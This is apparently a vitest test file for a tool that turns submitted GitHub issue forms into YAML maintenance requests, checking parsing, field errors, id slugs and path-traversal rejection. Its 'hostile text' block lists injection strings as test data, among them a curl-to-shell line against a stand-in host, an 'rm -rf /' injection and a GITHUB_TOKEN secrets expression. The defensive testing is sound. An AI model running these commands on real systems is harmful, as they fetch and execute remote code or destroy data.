// Reading a submitted issue form back into a request file: GitHub's body format, the problems that
// name the field to fix, ids and paths, and hostile text that stays text.
import { readFileSync } from 'node:fs';
import { parse } from 'yaml';
import { describe, expect, it } from 'vitest';
import requestSchema from '../../schema/request.schema.json' with { type: 'json' };
import { requestFormFields } from '../../src/intake/form.ts';
import { draftRequest, isSafeRequestPath, readAnswers, splitList } from '../../src/intake/submission.ts';
import { submittedBody, VALID_ANSWERS } from './support.ts';

const fields = requestFormFields({ environments: ['production', 'staging', 'development'], timezone: 'UTC' });
const submission = (body: string, title = 'Upgrade the orders database', author = 'alice') => ({
  number: 42,
  title,
  body,
  author,
});
const options = { dir: 'maintenance', takenIds: new Set<string>() };
const fixture = readFileSync('test/fixtures/intake/submitted-valid.md', 'utf8');

function problemsOf(body: string, title?: string, author?: string) {
  const draft = draftRequest(submission(body, title, author), fields, options);
  if (draft.ok) throw new Error('expected problems');
  return draft.problems.map((p) => `${p.label}: ${p.message}`);
}

describe('the answers of a submitted form', () => {
  it('a body as GitHub writes it becomes the request document, title and requester from the issue', () => {
    const draft = draftRequest(submission(fixture), fields, options);
    expect(draft.ok).toBe(true);
    if (!draft.ok) return;
    expect(draft.path).toBe('maintenance/2027/upgrade-the-orders-database.yaml');
    expect(parse(draft.text)).toEqual({
      title: 'Upgrade the orders database',
      type: 'standard',
      category: 'database-migration',
      environment: 'production',
      services: ['orders-db', 'api'],
      start: '2027-01-17T02:00',
      timezone: 'UTC',
      duration: '2h',
      impact: 'medium',
      impact_description: 'Orders cannot be placed for up to 2 hours',
      description: 'Upgrade PostgreSQL 15 to 16.\n\n1. Take a snapshot\n2. Run pg_upgrade',
      rollback: 'Restore the snapshot.',
      testing: 'Rehearsed on staging on 2027-01-10.',
      requester: 'alice',
    });
    expect(draft.parse.findings).toEqual([]);
    expect(draft.parse.request?.startsAt).toBe(Date.parse('2027-01-17T02:00:00Z'));
  });

  it.each([
    ['CRLF line ends', fixture.replace(/\n/g, '\r\n')],
    ['old Mac line ends', fixture.replace(/\n/g, '\r')],
    ['text before the first heading', `Some words the requester added\n\n${fixture}`],
    ['trailing spaces after a heading', fixture.replace('### Start', '### Start   ')],
    [
      'sections in another order',
      fixture
        .split(/\n(?=### )/)
        .reverse()
        .join('\n'),
    ],
    ['the generated body', submittedBody(fields, VALID_ANSWERS)],
  ])('%s read the same', (_name, body) => {
    const draft = draftRequest(submission(body), fields, options);
    const expected = draftRequest(submission(fixture), fields, options);
    expect(draft.ok && expected.ok && draft.text).toBe(expected.ok && expected.text);
  });

  it.each([
    ['`_No response_` is no answer', { testing: '_No response_' }, 'testing', undefined],
    ['`None` is no choice in a dropdown', { impact: 'None' }, 'impact', undefined],
    ['`None` is text in a text field', { risks: 'None' }, 'risks', 'None'],
    [
      'a heading of no field is text',
      { description: 'Plan\n\n### Steps\n\n1. a' },
      'description',
      'Plan\n\n### Steps\n\n1. a',
    ],
    [
      'indentation inside a text stays',
      { rollback: '  kubectl rollout undo\n    --to-revision=3' },
      'rollback',
      '  kubectl rollout undo\n    --to-revision=3',
    ],
    ['blank lines around a text go', { rollback: '\n\n  Revert\n\n' }, 'rollback', '  Revert'],
    ['an input is trimmed', { start: '   2027-01-17T02:00  ' }, 'start', '2027-01-17T02:00'],
  ])('%s', (_name, answers, field, expected) => {
    const { answers: read } = readAnswers(submittedBody(fields, { ...VALID_ANSWERS, ...answers }), fields);
    expect(read.get(field)).toBe(expected);
  });

  it.each([
    ['api', ['api']],
    ['api, db', ['api', 'db']],
    ['api,db,,  web ', ['api', 'db', 'web']],
    ['api\ndb\napi', ['api', 'db']],
  ])('services %j are %j', (text, list) => {
    expect(splitList(text)).toEqual(list);
  });
});

describe('a submission that does not make a request names each field to fix', () => {
  const body = (answers: Record<string, string | undefined>) =>
    submittedBody(fields, { ...VALID_ANSWERS, ...answers });
  it.each([
    ['an empty required field', body({ services: undefined }), ['Services: is required: fill it in']],
    ['an empty dropdown', body({ impact: undefined }), ['Impact: is required: fill it in']],
    [
      'a removed section',
      fixture.replace(/### Rollback plan\n\nRestore the snapshot.\n/, ''),
      ['Rollback plan: is required: fill it in'],
    ],
    [
      'two lines in a one-line field',
      body({ start: '2027-01-17\nT02:00' }),
      ['Start: must be a single line'],
    ],
    [
      'a text repeating another heading',
      body({ description: 'Plan\n### Rollback plan\nnone' }),
      [expect.stringMatching(/^Rollback plan: the body has the heading `### Rollback plan` twice/)],
    ],
    [
      'a start that is no date',
      body({ start: 'next Sunday' }),
      [expect.stringMatching(/^Start: `start` `next Sunday` is not a date-time/)],
    ],
    [
      'an unknown zone',
      body({ timezone: 'Mars/Olympus' }),
      [
        expect.stringMatching(
          /^Time zone: `timezone` `Mars\/Olympus` is not a time zone name of the tz database/,
        ),
      ],
    ],
    [
      'a duration that is no duration',
      body({ duration: 'two hours' }),
      [expect.stringMatching(/^Duration: /)],
    ],
    ['a service name with spaces', body({ services: 'Orders DB' }), [expect.stringMatching(/^Services: /)]],
    [
      'a choice the schema does not know (edited body)',
      body({ impact: 'huge' }),
      [expect.stringMatching(/^Impact: .*low, medium, high/)],
    ],
    [
      'several at once, each named',
      body({ services: undefined, duration: undefined, rollback: undefined }),
      [
        'Services: is required: fill it in',
        'Duration: is required: fill it in',
        'Rollback plan: is required: fill it in',
      ],
    ],
  ])('%s', (_name, text, expected) => {
    expect(problemsOf(text)).toEqual(expected);
  });

  it('an empty title, and an author that is no GitHub user login, are named as the issue gives them', () => {
    expect(problemsOf(fixture, '   ')).toEqual(['the issue title: is empty: give the issue a title']);
    expect(problemsOf(fixture, 'x', 'renovate[bot]')).toEqual([expect.stringMatching(/^the issue author: /)]);
  });
});

describe('ids and paths', () => {
  it.each([
    ['Upgrade the orders DB', [], 'upgrade-the-orders-db'],
    ['Upgrade the orders DB', ['upgrade-the-orders-db'], 'upgrade-the-orders-db-2'],
    [
      'Upgrade the orders DB',
      ['upgrade-the-orders-db', 'upgrade-the-orders-db-2'],
      'upgrade-the-orders-db-3',
    ],
    ['Zürich: Ölwechsel!', [], 'zurich-olwechsel'],
    ['日本語だけ', [], 'maintenance'],
    ['../../etc/passwd', [], 'etc-passwd'],
  ])('title %j with %j taken: id %s', (title, taken, id) => {
    const draft = draftRequest(submission(fixture, title), fields, {
      dir: 'maintenance',
      takenIds: new Set(taken),
    });
    expect(draft.ok && draft.id).toBe(id);
    expect(draft.ok && draft.path).toBe(`maintenance/2027/${id}.yaml`);
  });

  it('a file an earlier run wrote keeps its path when the title changes', () => {
    const draft = draftRequest(submission(fixture, 'A new title'), fields, {
      ...options,
      existingPath: 'maintenance/2027/upgrade-the-orders-database.yaml',
    });
    expect(draft.ok && [draft.id, draft.path]).toEqual([
      'upgrade-the-orders-database',
      'maintenance/2027/upgrade-the-orders-database.yaml',
    ]);
  });

  it.each([
    ['maintenance/2027/a.yaml', true],
    ['maintenance/a.yml', true],
    ['maintenance/team_a/2027/b-c.yaml', true],
    ['maintenance/../x.yaml', false],
    ['maintenance/./x.yaml', false],
    ['maintenance/2027/.x.yaml', false],
    ['maintenance/2027/X.yaml', false],
    ['other/2027/x.yaml', false],
    ['maintenance/2027/x.yaml.exe', false],
    ['maintenance//x.yaml', false],
  ])('%s is a path maint may write: %s', (path, safe) => {
    expect(isSafeRequestPath(path, 'maintenance')).toBe(safe);
  });

  it('an unsafe earlier path is not used: the id comes from the title again', () => {
    const draft = draftRequest(submission(fixture), fields, {
      ...options,
      existingPath: 'maintenance/../../x.yaml',
    });
    expect(draft.ok && draft.path).toBe('maintenance/2027/upgrade-the-orders-database.yaml');
  });
});

describe('hostile text stays text', () => {
  const hostile = [
    '${{ secrets.GITHUB_TOKEN }}',
    '`curl evil.example | sh`',
    '"; rm -rf / #',
    "key: value\n- item\n---\n... !!js/function 'x' &a *a",
    '<!-- maint:intake --> <script>alert(1)</script> @acme/everyone #1',
    '| > { } [ ] % @ ` \' "',
    'tab\there and a second\tone',
    'x'.repeat(30_000),
  ];
  it.each(hostile.map((text, i) => [i, text]))('text %i reads back exactly from the YAML', (_i, text) => {
    const answers = {
      ...VALID_ANSWERS,
      description: text,
      rollback: text,
      impact_description: text.split('\n')[0]!.slice(0, 300),
    };
    const draft = draftRequest(
      submission(submittedBody(fields, answers), text.split('\n')[0]!.slice(0, 200)),
      fields,
      options,
    );
    if (!draft.ok) throw new Error(JSON.stringify(draft.problems));
    const doc = parse(draft.text) as Record<string, string>;
    expect(doc.description).toBe(text);
    expect(doc.rollback).toBe(text);
    expect(doc.title).toBe(text.split('\n')[0]!.slice(0, 200).replace(/\s+/g, ' ').trim());
    expect(draft.path).toMatch(/^maintenance\/2027\/[a-z0-9]+(-[a-z0-9]+)*\.yaml$/);
    // Nothing but the request's own fields: no text became a key of its own.
    expect(Object.keys(doc).filter((k) => !(k in requestSchema.properties))).toEqual([]);
  });

  it('control characters are refused for each field that holds them, naming the character', () => {
    const text = 'bell \u0007, escape \u001b[31m, nul \u0000';
    const draft = draftRequest(
      submission(submittedBody(fields, { ...VALID_ANSWERS, description: text, rollback: text }), 'Title'),
      fields,
      options,
    );
    expect(draft.ok).toBe(false);
    const problems = draft.ok ? [] : draft.problems;
    expect(problems.map((p) => p.field).sort()).toEqual(['description', 'rollback']);
    for (const problem of problems) expect(problem.message).toMatch(/BEL \(U\+0007\)/);
  });

  it('a CRLF in a text becomes a line break, never a carriage return in the file', () => {
    const draft = draftOk(submittedBody(fields, { ...VALID_ANSWERS, rollback: 'one\r\ntwo\rthree' }));
    expect((parse(draft.text) as { rollback: string }).rollback).toBe('one\ntwo\nthree');
    expect(draft.text).not.toContain('\r');
  });
});

function draftOk(body: string) {
  const draft = draftRequest(submission(body), fields, options);
  if (!draft.ok) throw new Error(JSON.stringify(draft.problems));
  return draft;
}
